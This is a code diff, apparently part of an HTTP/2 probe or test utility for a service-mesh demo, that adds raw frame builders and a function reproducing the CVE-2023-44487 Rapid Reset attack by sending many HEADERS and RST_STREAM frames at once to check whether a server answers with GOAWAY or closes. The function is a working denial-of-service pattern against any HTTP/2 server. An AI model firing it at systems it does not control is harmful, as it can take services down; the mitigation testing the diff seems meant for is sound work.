@@ -313,3 +313,77 @@ export function tlsProbe(authority: string, t: Exclude<H2Tls, 'plaintext'>, time
     });
   });
 }
+
+/** HPACK literal header field without indexing, new name (RFC 7541 §6.2.2); short strings only. */
+function hpackLiteral(name: string, value: string): Buffer {
+  if (name.length > 126 || value.length > 126) throw new Error('hpackLiteral: short strings only');
+  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
+}
+
+function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(streamId & 0x7fffffff, 5);
+  return Buffer.concat([head, payload]);
+}
+
+export interface RawRapidResetResult {
+  /** GOAWAY error code the server sent, if it sent one. */
+  goawayCode?: number;
+  /** Whether the server closed the connection. */
+  closed: boolean;
+}
+
+/**
+ * The CVE-2023-44487 pattern written as raw frames: n × (HEADERS + RST_STREAM CANCEL)
+ * in one write, as an attacker sends them (a well-behaved client library would pace
+ * them by SETTINGS_MAX_CONCURRENT_STREAMS). Waits for GOAWAY, close, or `timeoutMs`.
+ */
+export function rawRapidReset(authority: string, t: Exclude<H2Tls, 'plaintext'>, n: number, opts: { path?: string; timeoutMs?: number } = {}): Promise<RawRapidResetResult> {
+  const { host, port } = splitHostPort(authority);
+  const block = Buffer.concat([
+    Buffer.from([0x83, 0x87]), // :method POST, :scheme https (static table)
+    hpackLiteral(':path', opts.path ?? '/meshward.demo.v1.Echo/Unary'),
+    hpackLiteral(':authority', authority),
+    hpackLiteral('content-type', 'application/grpc'),
+    hpackLiteral('te', 'trailers'),
+  ]);
+  const cancel = Buffer.alloc(4);
+  cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
+  const frames: Buffer[] = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(0x4, 0, 0, Buffer.alloc(0))];
+  for (let i = 0; i < n; i++) {
+    const id = 1 + 2 * i;
+    frames.push(h2Frame(0x1, 0x4 /* END_HEADERS */, id, block), h2Frame(0x3, 0, id, cancel));
+  }
+  return new Promise((resolve) => {
+    const result: RawRapidResetResult = { closed: false };
+    const socket = tls.connect({ ...tlsConnectOptions(t), host, port, ALPNProtocols: ['h2'] });
+    let buffered = Buffer.alloc(0);
+    const timer = setTimeout(() => finish(), opts.timeoutMs ?? DEFAULT_TIMEOUT_MS);
+    function finish(): void {
+      clearTimeout(timer);
+      socket.destroy();
+      resolve(result);
+    }
+    socket.once('secureConnect', () => socket.write(Buffer.concat(frames)));
+    socket.on('data', (chunk: Buffer) => {
+      buffered = Buffer.concat([buffered, chunk]);
+      while (buffered.length >= 9) {
+        const len = buffered.readUIntBE(0, 3);
+        if (buffered.length < 9 + len) break;
+        if (buffered[3] === 0x7 && len >= 8) {
+          result.goawayCode = buffered.readUInt32BE(9 + 4);
+          return finish();
+        }
+        buffered = buffered.subarray(9 + len);
+      }
+    });
+    socket.on('error', () => undefined);
+    socket.on('close', () => {
+      result.closed = true;
+      finish();
+    });
+  });
+}
